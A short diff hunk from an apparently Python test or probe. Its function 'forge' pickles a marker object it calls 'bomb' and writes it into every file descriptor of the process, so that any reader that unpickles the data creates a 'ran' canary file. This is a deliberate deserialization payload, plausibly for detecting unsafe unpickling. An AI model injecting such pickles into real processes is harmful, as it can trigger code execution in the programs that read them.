@@ -35,7 +35,7 @@ class Mark:
 
 def forge(folder: str) -> None:
     """Writes pickles into every pipe of this process, as they are and with the heads that readers of pickles expect."""
-    bomb = pickle.dumps(Mark(folder))
+    bomb = pickle.dumps(Mark(os.path.join(folder, "ran")))
     for name in os.listdir("/proc/self/fd"):
         pipe = int(name)
         with suppress(OSError):
